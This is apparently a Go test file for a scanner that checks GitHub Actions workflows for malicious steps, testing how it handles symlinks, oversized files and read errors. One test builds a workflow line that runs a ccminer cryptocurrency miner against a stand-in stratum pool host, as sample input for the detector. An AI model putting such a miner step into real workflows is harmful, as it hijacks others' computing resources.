package github

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// workflowDir makes a repository's workflows directory holding copies of the named fixtures.
func workflowDir(t *testing.T, fixtures ...string) string {
	t.Helper()
	wf := filepath.Join(t.TempDir(), ".github", "workflows")
	if err := os.MkdirAll(wf, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range fixtures {
		data, err := os.ReadFile(filepath.Join("testdata", "workflows", name))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(wf, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return wf
}

func TestScanPathSymlinks(t *testing.T) {
	if _, err := os.Stat("/dev/zero"); err != nil {
		t.Skip("no /dev/zero")
	}
	wf := workflowDir(t, "miner_download.yml")
	// Sorted before the miner: neither may stop the scan or be read.
	if err := os.Symlink("/dev/zero", filepath.Join(wf, "a_zero.yml")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(wf, "missing.yml"), filepath.Join(wf, "0_dangling.yml")); err != nil {
		t.Fatal(err)
	}
	// A symlink to a regular workflow is not followed either.
	if err := os.Symlink("miner_download.yml", filepath.Join(wf, "b_link.yml")); err != nil {
		t.Fatal(err)
	}
	files, err := ScanPath(filepath.Dir(filepath.Dir(wf)))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range files {
		got = append(got, filepath.Base(f.File))
	}
	if strings.Join(got, " ") != "0_dangling.yml a_zero.yml b_link.yml miner_download.yml" {
		t.Fatalf("files %v", got)
	}
	for _, f := range files[:3] {
		if f.Skipped == "" || f.Err != nil || len(f.Matches) != 0 || f.Complete() {
			t.Errorf("%s: %+v, want skipped", f.File, f)
		}
	}
	if f := files[3]; f.Skipped != "" || f.Err != nil || len(f.Matches) == 0 || !f.Complete() {
		t.Errorf("%s: %+v, want matches", f.File, f)
	}

	// A special file named directly is not read either.
	files, err = ScanPath("/dev/zero")
	if err != nil || len(files) != 1 || files[0].Skipped != "not a regular file" {
		t.Errorf("ScanPath(/dev/zero) = %+v, %v", files, err)
	}
}

func TestScanPathOversized(t *testing.T) {
	wf := workflowDir(t)
	miner, err := os.ReadFile(filepath.Join("testdata", "workflows", "miner_download.yml"))
	if err != nil {
		t.Fatal(err)
	}
	// A file of exactly MaxWorkflowSize bytes is read whole.
	exact := append(bytes.Repeat([]byte("# pad\n"), (MaxWorkflowSize-len(miner))/6), miner...)
	exact = append(exact, bytes.Repeat([]byte("#"), MaxWorkflowSize-len(exact))...)
	// A miner past the limit is not seen; one before it is.
	big := append(append([]byte{}, miner...), bytes.Repeat([]byte("# pad\n"), MaxWorkflowSize/6)...)
	big = append(big, "      - run: ./ccminer -o stratum+tcp://late.example:3333\n"...)
	for name, data := range map[string][]byte{"big.yml": big, "exact.yml": exact} {
		if err := os.WriteFile(filepath.Join(wf, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	files, err := ScanPath(wf)
	if err != nil || len(files) != 2 {
		t.Fatalf("ScanPath = %+v, %v", files, err)
	}
	b, e := files[0], files[1]
	if !b.Truncated || b.Err != nil || b.Complete() || len(b.Matches) == 0 {
		t.Errorf("big.yml: %+v, want truncated with matches", b)
	}
	for _, m := range b.Matches {
		if strings.Contains(m.Text, "late.example") || m.Kind == "ccminer" {
			t.Errorf("big.yml: match %+v past the limit", m)
		}
	}
	if e.Truncated || !e.Complete() || len(e.Matches) == 0 {
		t.Errorf("exact.yml: %+v, want complete with matches", e)
	}
}

func TestScanPathReadError(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("root reads unreadable files")
	}
	wf := workflowDir(t, "miner_download.yml")
	if err := os.WriteFile(filepath.Join(wf, "0_locked.yml"), []byte("x"), 0o000); err != nil {
		t.Fatal(err)
	}
	files, err := ScanPath(wf)
	if err != nil || len(files) != 2 {
		t.Fatalf("ScanPath = %+v, %v", files, err)
	}
	if files[0].Err == nil || files[0].Complete() {
		t.Errorf("0_locked.yml: %+v, want a read error", files[0])
	}
	if len(files[1].Matches) == 0 {
		t.Errorf("miner_download.yml: %+v, want matches", files[1])
	}
}
